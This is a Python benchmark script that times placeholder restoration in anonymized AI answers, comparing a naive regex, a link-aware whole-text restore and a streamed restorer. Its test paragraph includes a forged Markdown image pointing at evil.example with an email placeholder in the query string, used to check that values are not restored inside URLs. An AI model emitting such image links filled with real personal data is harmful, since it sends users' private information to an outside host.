"""Benchmark: restoring placeholders in answers, side by side with a context-free reference.

Usage: python benchmarks/restore_bench.py [--repeat 5]

For answers of about 10 kB, 100 kB and 1 MB (Markdown with links, tables and placeholders, from a
vault of 500 values), prints the time per MB of:
- ``re.sub``: one regex substitution of the issued placeholders, with no link context (the floor:
  it would restore inside URLs, which garde-ia refuses);
- ``restore``: garde-ia's whole-text restore;
- ``stream/20``: ``StreamRestorer`` fed 20-character chunks (a typical streamed delta).
Flat MB/s across sizes shows the linear cost; the ratio to ``re.sub`` is the price of link safety.
"""

import argparse
import re
import statistics
import time
from collections.abc import Callable

from anonymizer.restore import StreamRestorer, restore
from anonymizer.vault import PLACEHOLDER_PATTERN, Vault

SIZES = (10_000, 100_000, 1_000_000)
PARAGRAPH = (
    "## Compte rendu pour [PERSONNE_{n}]\n\n"
    "Bonjour [PERSONNE_{n}], voici le résumé : rappelez [PERSONNE_1] au [TELEPHONE_1] "
    "ou écrivez à [EMAIL_{n}]. Voir [la fiche](https://exemple.fr/fiche?id=12) et "
    "www.exemple.org/aide. Le 01/02/2024 : **[PERSONNE_2]** a répondu ?\n\n"
    "| Nom | Contact |\n|---|---|\n| [PERSONNE_{n}] | [EMAIL_{n}] |\n\n"
    "![image](https://evil.example/?d=[EMAIL_{n}]) <b>fin</b> `code [NIR_1]`\n\n"
)


def build_vault() -> Vault:
    vault = Vault(max_values=2000)
    for n in range(1, 501):
        vault.placeholder_for("PERSONNE", f"Personne Numéro {n}")
        vault.placeholder_for("EMAIL", f"personne{n}@exemple.fr")
    vault.placeholder_for("TELEPHONE", "06 12 34 56 78")
    vault.placeholder_for("NIR", "1 85 05 78 006 084 36")
    return vault


def build_answer(size: int) -> str:
    parts: list[str] = []
    total = 0
    n = 0
    while total < size:
        n = n % 500 + 1
        paragraph = PARAGRAPH.format(n=n)
        parts.append(paragraph)
        total += len(paragraph)
    return "".join(parts)[:size]


def reference(text: str, vault: Vault) -> str:
    return PLACEHOLDER_PATTERN.sub(lambda m: vault.value_for(m.group()) or m.group(), text)


def streamed(text: str, vault: Vault) -> str:
    restorer = StreamRestorer(vault)
    out = [restorer.feed(text[i : i + 20]) for i in range(0, len(text), 20)]
    out.append(restorer.flush())
    return "".join(out)


def seconds(run: Callable[[str, Vault], str], text: str, vault: Vault, repeat: int) -> float:
    timings = []
    for _ in range(repeat):
        start = time.perf_counter()
        run(text, vault)
        timings.append(time.perf_counter() - start)
    return statistics.median(timings)


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0] if __doc__ else None)
    parser.add_argument("--repeat", type=int, default=5)
    repeat = parser.parse_args().repeat
    vault = build_vault()
    runs: dict[str, Callable[[str, Vault], str]] = {
        "re.sub": reference,
        "restore": restore,
        "stream/20": streamed,
    }
    print(
        f"{'size':>10} "
        + " ".join(f"{name + ' ms/MB':>16}" for name in runs)
        + f" {'restore/re.sub':>15}"
    )
    for size in SIZES:
        text = build_answer(size)
        assert streamed(text, vault) == restore(text, vault)
        assert re.search(
            r"\[EMAIL_\d+\]\)", restore(text, vault)
        )  # the forged image kept its placeholder
        per_mb = {
            name: seconds(run, text, vault, repeat) * 1e3 * 1e6 / size for name, run in runs.items()
        }
        ratio = per_mb["restore"] / per_mb["re.sub"]
        print(
            f"{size:>10} "
            + " ".join(f"{value:>16.1f}" for value in per_mb.values())
            + f" {ratio:>15.1f}"
        )


if __name__ == "__main__":
    main()
